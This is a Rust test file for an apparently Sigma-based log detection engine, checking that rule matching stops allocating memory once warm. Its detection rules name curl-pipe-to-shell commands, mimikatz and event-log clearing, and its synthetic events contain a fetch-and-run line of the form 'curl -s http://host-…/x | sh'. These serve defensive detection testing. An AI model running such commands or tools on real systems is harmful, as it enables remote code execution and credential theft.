//! Matching does not allocate once warm: neither on values seen before nor on new ones.

#![allow(clippy::unwrap_used, reason = "the functions here are tests or part of one")]

use canh_event::{BatchBuilder, EventBatch, Logsource, Origin, RowHeader, TimeQuality, Timestamp, Value};
use canh_sigma::{Matcher, MemoryLimits, Program, Routing, RuleFile, RuleSet};

const RULES: &str = "
title: one
logsource: {product: linux}
detection:
    s:
        Image|endswith: ['/bash', '/sh']
        CommandLine|contains|all: ['curl ', '| sh']
        Arguments|contains: 'Đăng'
    f:
        User|fieldref: Owner
        Port|gt: 1024
        Address|cidr: 10.0.0.0/8
    condition: s and not f
---
title: two
logsource: {product: linux}
detection:
    k: [mimikatz, 'event::clear*x']
    s: {CommandLine|re: '(?i)curl\\s+-[a-z]+ ht+p'}
    n: {Owner: null}
    condition: k or s or not n
";

fn batch(round: u32) -> EventBatch {
    let mut builder = BatchBuilder::new();
    let origin = builder.origin(&Origin::unknown()).unwrap();
    let logsource = builder.logsource(&Logsource::new("linux", &[], &[]).unwrap()).unwrap();
    let time = Timestamp::EPOCH;
    let header = RowHeader { time, time_quality: TimeQuality::Received, received: time, origin, logsource };
    for number in 0..512 {
        let mut row = builder.begin_row(header, b"").unwrap();
        let line = format!("curl -s http://host-{round}-{number}/x | sh # Đăng");
        for (name, value) in [
            ("Image", "/usr/bin/bash"),
            ("CommandLine", line.as_str()),
            ("Arguments", line.as_str()),
            ("User", "Root"),
            ("Owner", "root"),
            ("Port", "4444"),
            ("Address", "10.0.0.7"),
        ] {
            row.field(name, Value::text(value)).unwrap();
        }
        row.commit();
    }
    builder.finish()
}

#[test]
fn matching_does_not_allocate_once_warm() {
    let loaded = RuleSet::load([RuleFile { path: "r.yml".to_owned(), text: RULES.to_owned() }]);
    assert_eq!(loaded.refused, []);
    let limits = MemoryLimits { values: 20_000, text_bytes: 1 << 20 };
    let mut matcher = Matcher::with_memory(&Program::compile(&loaded.rules), limits);
    let mut hits = Vec::with_capacity(2_048);
    // Long enough for both generations of the memory to have been filled several times: each event
    // brings two new values.
    for round in 0..300 {
        hits.clear();
        matcher.run(&batch(round), Routing::ByLogsource, &mut hits);
    }
    assert!(!hits.is_empty());
    let batches: Vec<EventBatch> = (300..340).map(batch).collect();
    for _ in 0..2 {
        let counted = allocation_counter::measure(|| {
            for batch in &batches {
                hits.clear();
                matcher.run(batch, Routing::ByLogsource, &mut hits);
            }
        });
        assert_eq!(counted.count_total, 0, "over {} events", batches.len() * 512);
    }
}
